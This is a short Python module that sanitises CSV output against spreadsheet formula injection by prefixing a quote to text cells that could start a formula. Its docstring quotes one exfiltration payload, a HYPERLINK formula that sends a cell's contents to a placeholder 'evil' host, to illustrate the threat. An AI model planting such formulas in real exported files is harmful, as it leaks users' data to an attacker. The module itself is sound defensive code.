"""CSV files that a spreadsheet opens without running anything in them (CSV formula injection, OWASP).

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and a tab or a carriage return
first can hide one; a name a student typed (`=HYPERLINK("http://evil/?"&A1, "grade")`) would run in the
instructor's spreadsheet. Every CSV file the service writes goes through `writer`: a text cell that starts
with one of those characters gets a single quote in front (OWASP's advice), which the spreadsheet shows as
text. Numbers stay numbers: an int or a float is never touched, and neither is a text cell that is a plain
decimal number (`-3.5`, a score written as text).
"""

from __future__ import annotations

import csv
import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as the start of a formula
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")  # a plain number, which no spreadsheet runs


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet may open it: text that could start a formula behind a single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's `writerow` and `writerows`, each cell through `safe_cell`."""

    def __init__(self, out, **options):
        self._w = csv.writer(out, **options)

    def writerow(self, row) -> None:
        self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **options) -> SafeWriter:
    """A CSV writer (csv.writer's options) whose text cells cannot start a formula."""
    return SafeWriter(out, **options)
